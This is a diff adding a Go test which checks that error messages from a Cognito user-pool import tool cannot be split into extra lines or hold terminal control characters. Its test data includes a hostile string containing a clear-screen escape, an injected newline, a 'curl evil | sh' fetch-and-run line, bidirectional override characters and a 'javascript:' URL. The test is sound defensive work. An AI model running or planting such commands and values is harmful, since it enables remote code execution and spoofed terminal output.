@@ -5,6 +5,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -93,6 +94,46 @@ func TestImport(t *testing.T) {
 	}
 	if want := map[string][]string{pool.ID: {"shop-production", "auth.example.com"}}; !reflect.DeepEqual(got.Domains, want) {
 		t.Errorf("domains %v", got.Domains)
+	}
+}
+
+// Attack: names in a described pool write lines of their own into an error, or change what
+// a terminal shows.
+func TestNamesInErrorsCannotWriteLines(t *testing.T) {
+	t.Parallel()
+	const hostile = `x\u001b[2J\n  curl evil | sh\u202e\u2066`
+	for name, text := range map[string]string{
+		"document":         `{"` + hostile + `":{}}`,
+		"pool ID":          `{"UserPool":{"Id":"` + hostile + `","Name":"x"}}`,
+		"pool twice":       strings.Repeat(`{"UserPool":{"Id":"`+hostile+`","Name":"x"}}`, 2),
+		"member twice":     `{"UserPool":{"Id":"eu-west-1_Ab3dEf6hI","` + hostile + `":1,"` + hostile + `":1}}`,
+		"inner twice":      `{"UserPool":{"Id":"eu-west-1_Ab3dEf6hI","` + hostile + `":{"` + hostile + `":1,"` + hostile + `":1}}}`,
+		"client ID":        `{"UserPoolClient":{"ClientId":"` + hostile + `","UserPoolId":"eu-west-1_Ab3dEf6hI"}}`,
+		"client's pool":    `{"UserPoolClient":{"ClientId":"abc","UserPoolId":"` + hostile + `"}}`,
+		"client twice":     strings.Repeat(`{"UserPoolClient":{"ClientId":"`+hostile+`","UserPoolId":"eu-west-1_Ab3dEf6hI"}}`, 2),
+		"not JSON":         `{"` + hostile + `"`,
+		"text":             "x\x1b[2J\n  curl evil | sh",
+		"unit":             `{"UserPoolClient":{"ClientId":"abc","UserPoolId":"eu-west-1_Ab3dEf6hI","TokenValidityUnits":{"IdToken":"` + hostile + `"}}}`,
+		"settings":         `{"UserPool":{"Id":"eu-west-1_Ab3dEf6hI","Name":"` + hostile + `","MfaConfiguration":"` + hostile + `","Domain":"` + hostile + `"}}`,
+		"client's scopes":  fixture(t, "pool.json") + `{"UserPoolClient":{"ClientId":"abc","ClientName":"` + hostile + `","UserPoolId":"eu-west-1_Ab3dEf6hI","AllowedOAuthFlows":["` + hostile + `"],"AllowedOAuthScopes":["` + hostile + `"],"CallbackURLs":["` + hostile + `","javascript:` + hostile + `"]}}`,
+		"client's members": fixture(t, "pool.json") + `{"UserPoolClient":{"ClientId":"` + hostile + `","UserPoolId":"eu-west-1_Ab3dEf6hI","SupportedIdentityProviders":["` + hostile + `"],"ReadAttributes":["` + hostile + `"],"ExplicitAuthFlows":["` + hostile + `"]}}`,
+	} {
+		in, err := describe.Read(strings.NewReader(text), "hostile.json")
+		if err == nil {
+			_, err = describe.Merge(in)
+		}
+		if err == nil {
+			t.Errorf("%s: no error", name)
+			continue
+		}
+		for line := range strings.SplitSeq(err.Error(), "\n") {
+			if !strings.HasPrefix(line, "hostile.json: ") {
+				t.Errorf("%s: the line %q is not the error's own", name, line)
+			}
+			if strings.ContainsFunc(line, func(r rune) bool { return !strconv.IsPrint(r) }) {
+				t.Errorf("%s: %q has characters that a terminal obeys or does not show", name, line)
+			}
+		}
 	}
 }
 
